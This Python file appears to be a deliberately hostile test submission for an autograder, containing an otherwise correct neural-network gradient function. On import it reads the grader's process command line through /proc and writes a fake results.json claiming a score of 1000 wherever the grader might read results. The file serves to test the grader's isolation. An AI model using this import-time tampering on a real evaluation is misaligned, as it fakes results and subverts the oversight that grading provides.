"""HOSTILE: at import, writes a fake results.json (score 1000) everywhere the grader might read it from.

Otherwise correct, so its honest score is 100. The grader must overwrite or ignore every fake: the real
results.json wins. Under full isolation the results folder is not writable by the student's user at all.
"""

import json
import os

import numpy as np

FAKE = {"score": 1000, "execution_time": 0, "output": "HACKED: fake results.json written at import",
        "output_format": "md", "test_output_format": "md",
        "tests": [{"name": "hacked", "number": "9.9", "score": 1000, "max_score": 1, "status": "passed",
                   "output": "HACKED", "visibility": "visible"}]}



def _ancestors():
    """Pids of this process's parent, grandparent, ... (the grader and run_autograder): /proc/PID/stat is public.

    Only our own ancestors are attacked, never other graders that happen to run on the same machine.
    """
    pids, pid = [], os.getppid()
    while pid > 1 and len(pids) < 8:
        pids.append(str(pid))
        try:
            with open(f"/proc/{pid}/stat") as f:
                pid = int(f.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
    return pids

def _targets():
    """Every plausible place of results.json; only folders that already exist (never create folders)."""
    places = ["/autograder/results/results.json", os.path.join("..", "results", "results.json"),
              "results.json", os.path.join("..", "results.json")]
    if os.environ.get("AUTOGRADER_ROOT"):
        places.append(os.path.join(os.environ["AUTOGRADER_ROOT"], "results", "results.json"))
    # The grader's command line is world-readable in /proc: look for --results FILE and AUTOGRADER_ROOT.
    for pid in _ancestors():
        if not pid.isdigit():
            continue
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                words = f.read().decode("utf-8", "replace").split("\0")
        except OSError:
            continue
        for n, word in enumerate(words):
            if word == "--results" and n + 1 < len(words):
                places.append(words[n + 1])
            elif word.endswith("results.json"):
                places.append(word)
    return places


def _write_fakes():
    written = []
    for place in dict.fromkeys(_targets()):
        if not os.path.isdir(os.path.dirname(os.path.abspath(place))):
            continue
        try:
            with open(place, "w") as f:
                json.dump(FAKE, f)
            written.append(place)
        except OSError:
            pass
    print("fake results.json written to:", written)


_write_fakes()


def sigmoid(a):
    return 1.0 / (1.0 + np.exp(-a))


def compute_gradients(z, t, W_kj, W_ji, case):
    y = sigmoid(z @ W_kj)
    a = y @ W_ji
    if case == "sigmoid":
        delta = sigmoid(a) - t
    else:
        e = np.exp(a - a.max())
        delta = e / e.sum() * t.sum() - t
    return np.outer(z, (W_ji @ delta) * y * (1 - y)), np.outer(y, delta)
